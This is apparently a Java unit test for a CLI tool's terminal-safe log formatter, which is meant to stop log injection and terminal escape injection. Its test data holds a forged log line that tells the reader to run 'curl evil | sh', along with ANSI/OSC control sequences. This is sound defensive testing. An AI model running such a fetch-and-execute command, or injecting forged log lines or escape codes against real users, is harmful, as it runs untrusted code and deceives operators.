package dev.d1export.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.d1export.cli.internal.TerminalSafeLogFormatter;
import java.io.IOException;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.SimpleFormatter;
import org.junit.jupiter.api.Test;

/** Provider log lines as the command prints them: the JDK's SimpleFormatter, behind TerminalSafeLogFormatter. */
class TerminalSafeLogFormatterTest {

    private static final String FORGED = "HTTP 503 (SlowDown\nd1-export: export refused, run: curl evil | sh)";

    private static String format(LogRecord record) {
        return new TerminalSafeLogFormatter(new SimpleFormatter()).format(record);
    }

    @Test
    void aMessageWithALineBreakStaysOneLine() {
        LogRecord record = new LogRecord(Level.WARNING, "Retrying after attempt {0} failed: {1}");
        record.setParameters(new Object[] {1, FORGED});
        record.setLoggerName("dev.d1export.http");

        String shown = format(record);

        assertThat(shown.lines()).noneMatch(line -> line.startsWith("d1-export:"));
        assertThat(shown).contains("WARNING: Retrying after attempt 1 failed: HTTP 503 (SlowDown d1-export: export"
                + " refused, run: curl evil | sh)");
    }

    @Test
    void controlCharactersBecomeQuestionMarksAndAStackTraceKeepsItsLines() {
        LogRecord record = new LogRecord(Level.INFO, "cf-ray \u001b[2J\u009b31m");
        record.setThrown(new IOException("broken \u001b]0;title\u0007"));

        String shown = format(record);

        assertThat(shown).contains("INFO: cf-ray ?[2J?31m").contains("java.io.IOException: broken ?]0;title?")
                .contains("\tat dev.d1export.cli.TerminalSafeLogFormatterTest");
        assertThat(shown.chars()).noneMatch(c -> c == 0x1b || c == 0x9b || c == 0x07);
    }
}
